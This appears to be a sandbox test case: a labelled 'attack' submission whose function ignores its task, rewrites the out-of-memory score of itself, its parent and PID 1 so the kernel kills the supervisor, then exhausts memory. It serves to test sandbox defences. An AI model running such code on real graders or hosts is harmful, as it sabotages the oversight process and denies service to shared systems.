# attack: makes the kernel kill the worker rather than itself when memory runs out, then takes it all
# problem: asserts calls
# expect: memory
# limits: memory_bytes=300000000
import os


def add_one(n):
    for pid in ("self", str(os.getppid()), "1"):
        for value in ("-1000", "0", "1000"):
            try:
                with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                    file.write(value)
            except OSError:
                pass
    held = []
    while True:
        held.append(bytearray(64 << 20))
